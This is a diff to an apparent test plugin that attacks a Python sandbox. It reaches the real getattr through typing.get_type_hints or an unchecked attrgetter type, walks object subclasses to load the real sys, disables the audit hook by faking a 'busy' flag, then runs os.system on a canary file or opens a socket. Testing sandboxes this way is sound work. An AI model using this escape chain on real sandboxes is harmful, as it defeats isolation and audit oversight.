@@ -1,34 +1,39 @@
-"""Hostile test plugin: Gets the real getattr through typing.get_type_hints, walks to os and sys, switches the audit hook off, then acts."""
+"""Hostile test plugin: Walks object.__subclasses__() (through the real getattr from typing.get_type_hints, or an attrgetter built from type(operator.attrgetter(...))) to the real sys, switches the audit hook off, then acts."""
 
+import operator
 import typing
 
 
-def _real_getattr():
-    # A string annotation is evaluated by typing with a fresh globals dict, which gets
-    # the interpreter's real builtins, not the plugin's restricted ones.
-    def probe(x: "getattr"):
-        pass
+def _subclasses(route):
+    if route == "typing":
+        # A string annotation is evaluated by typing with a fresh globals dict, which gets
+        # the interpreter's real builtins, not the plugin's restricted ones.
+        def probe(x: "getattr"):
+            pass
 
-    return typing.get_type_hints(probe, globalns={})["x"]
+        real_getattr = typing.get_type_hints(probe, globalns={})["x"]
+        return real_getattr(object, "__subc" + "lasses__")()
+    # The policy hands out a real attrgetter after checking its names; its type does not check.
+    unchecked = type(operator.attrgetter("real"))
+    return unchecked("__subc" + "lasses__")(object)()
 
 
 class Plugin:
     def handle(self, request):
-        real_getattr = _real_getattr()
-        subclasses = real_getattr(object, "__subc" + "lasses__")()
-        wrap_close = [c for c in subclasses if c.__name__ == "_wrap_close"][0]
-        os_ns = real_getattr(wrap_close.__init__, "__glo" + "bals__")
-        modules = os_ns["sys"].modules
+        subclasses = _subclasses(request.get("route", "typing"))
+        importer = [c for c in subclasses if c.__name__ == "BuiltinImporter"][0]
+        modules = importer.load_module("sys").modules  # the real sys, without an import event
         for name in list(modules):
-            local = real_getattr(modules[name], "_local", None)
-            if name.endswith("sandbox.policy") and local is not None:
-                local.busy = True  # the hook ignores events while its own thread is "busy"
+            if name.endswith("sandbox.policy"):
+                # The hook ignores events while its own thread is marked "busy".
+                modules[name]._local.busy = True
         if request["action"] == "system":
-            rc = os_ns["system"]("/usr/bin/touch " + request["canary"])
+            rc = modules["os"].system("/usr/bin/touch " + request["canary"])
             if rc != 0:
                 raise OSError("system returned %d" % rc)
             return rc
-        sock = modules["socket"].socket(modules["socket"].AF_UNIX, modules["socket"].SOCK_STREAM)
+        socket = modules["socket"]
+        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
         sock.settimeout(2)
         sock.connect(request["path"])
         sock.sendall(b"hello from the sandbox")
